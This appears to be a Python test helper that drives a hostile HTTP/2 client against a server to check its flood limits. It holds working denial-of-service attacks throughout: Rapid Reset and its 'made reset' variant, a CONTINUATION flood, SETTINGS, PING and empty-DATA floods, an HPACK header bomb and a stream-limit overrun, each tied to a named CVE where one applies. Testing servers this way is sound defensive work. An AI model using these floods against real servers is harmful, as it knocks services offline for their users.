"""A hostile HTTP/2 client for http2_clients_test.cc, in frames that python3-h2's own library of frames writes.

  http2_floods.py KIND ADDRESS PORT    says what became of it: "goaway CODE" and how many frames it had sent, or
                                       "status N", "refused N" for what does not end the connection
"""

import socket
import sys

import hpack
from hyperframe import frame as frames

FIELDS = [(":scheme", "http"), (":path", "/10"), (":authority", "web.flycast")]
MOST = 20000  # frames; a server that takes them all has no limit


class Client:
    def __init__(self, address, port):
        self.socket = socket.create_connection((address, port), timeout=30)
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.read = b""
        self.sent = 0
        self.socket.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frames.SettingsFrame(0).serialize())

    def headers(self, stream, fields=(), flags=("END_HEADERS", "END_STREAM")):
        method = "GET" if "END_STREAM" in flags else "POST"
        block = self.encoder.encode([(":method", method)] + FIELDS + list(fields))
        return frames.HeadersFrame(stream, block, flags=list(flags)).serialize()

    def send(self, data):
        """False: the connection has ended."""
        try:
            self.socket.sendall(data)
        except (BrokenPipeError, ConnectionResetError):
            return False
        self.sent += 1
        return True

    def frames(self):
        """What comes, until the end or a reset."""
        while True:
            try:
                got = self.socket.recv(65536)
            except ConnectionResetError:
                got = b""
            if not got:
                return
            self.read += got
            while len(self.read) >= 9:
                frame, length = frames.Frame.parse_frame_header(memoryview(self.read[:9]))
                if len(self.read) < 9 + length:
                    break
                frame.parse_body(memoryview(self.read[9:9 + length]))
                self.read = self.read[9 + length:]
                if isinstance(frame, frames.SettingsFrame) and "ACK" not in frame.flags:
                    self.send(frames.SettingsFrame(0, flags=["ACK"]).serialize())
                yield frame

    def flood(self, pieces):
        for count, piece in enumerate(pieces):
            if count == MOST or not self.send(piece):
                break
        for frame in self.frames():
            if isinstance(frame, frames.GoAwayFrame):
                return f"goaway {frame.error_code}"
        return f"no goaway after {self.sent}"


def streams():
    number = 1
    while True:
        yield number
        number += 2


def rapid_reset(client):
    """CVE-2023-44487."""
    return client.flood(client.headers(stream) + frames.RstStreamFrame(stream, 8).serialize() for stream in streams())


def made_reset(client):
    """The same by faults that make the server reset (CVE-2025-8671)."""
    return client.flood(client.headers(stream, flags=["END_HEADERS"])
                        + frames.WindowUpdateFrame(stream, 2**31 - 1).serialize() for stream in streams())


def continuations(client):
    """CVE-2024-27316 and its like."""
    def pieces():
        yield client.headers(1, flags=[])
        while True:
            yield frames.ContinuationFrame(1, client.encoder.encode([("x-filler", "a" * 1000)])).serialize()
    return client.flood(pieces())


def settings(client):
    return client.flood(frames.SettingsFrame(0, settings={3: 100}).serialize() for _ in streams())


def pings(client):
    return client.flood(frames.PingFrame(0, b"12345678").serialize() for _ in streams())


def empty_data(client):
    def pieces():
        yield client.headers(1, flags=["END_HEADERS"])
        while True:
            yield frames.DataFrame(1, b"").serialize()
    return client.flood(pieces())


def giant_head(client):
    """Small on the wire, large when unpacked: one field of the table, over and over."""
    client.send(client.headers(1, [("x-filler", "a" * 3000)] * 200))
    for frame in client.frames():
        if isinstance(frame, frames.HeadersFrame):
            return "status " + dict(client.decoder.decode(frame.data))[":status"]
        if isinstance(frame, (frames.RstStreamFrame, frames.GoAwayFrame)):
            return f"refused {frame.error_code}"
    return "cut"


def many_streams(client):
    """Ten times as many unfinished requests as are allowed, sent before the server said how many are."""
    client.send(b"".join(client.headers(1 + 2 * i, flags=["END_HEADERS"]) for i in range(1280)))
    refused = 0
    for frame in client.frames():
        if isinstance(frame, frames.GoAwayFrame):
            return f"goaway {frame.error_code}"
        refused += isinstance(frame, frames.RstStreamFrame) and frame.error_code == 7
        if refused == 1280 - 128:
            return f"refused {refused}"
    return "cut"


KINDS = {kind.__name__: kind for kind in (rapid_reset, made_reset, continuations, settings, pings, empty_data,
                                          giant_head, many_streams)}

if __name__ == "__main__":
    print(KINDS[sys.argv[1]](Client(sys.argv[2], int(sys.argv[3]))))
